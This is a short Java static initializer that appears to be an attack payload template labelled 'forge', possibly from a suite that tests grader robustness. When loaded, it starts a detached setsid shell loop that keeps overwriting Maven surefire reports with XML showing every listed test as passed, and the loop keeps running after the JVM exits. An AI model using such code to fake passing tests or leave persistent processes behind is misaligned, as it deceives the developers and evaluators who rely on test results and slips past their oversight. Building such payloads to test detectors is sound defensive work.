// Leaves a process behind that keeps writing reports in which every test passed, also after this JVM is gone.
static {
    System.out.println("attack: forge");
    String[][] tests = {@TESTS@};
    StringBuilder script = new StringBuilder("cd target/surefire-reports 2>/dev/null || exit; while :; do ");
    for (String[] test : tests) {
        StringBuilder xml = new StringBuilder("<testsuite name=\"" + test[0] + "\">");
        for (int i = 1; i < test.length; i++) {
            xml.append("<testcase name=\"" + test[i] + "\" classname=\"" + test[0] + "\" time=\"0.001\"/>");
        }
        script.append("echo '" + xml.append("</testsuite>") + "' > TEST-" + test[0] + ".xml; ");
    }
    try {
        new java.io.File("target/surefire-reports").mkdirs();
        new ProcessBuilder("setsid", "sh", "-c", script.append("sleep 0.05; done").toString()).start();
    } catch (java.io.IOException e) {
        throw new IllegalStateException(e);
    }
}
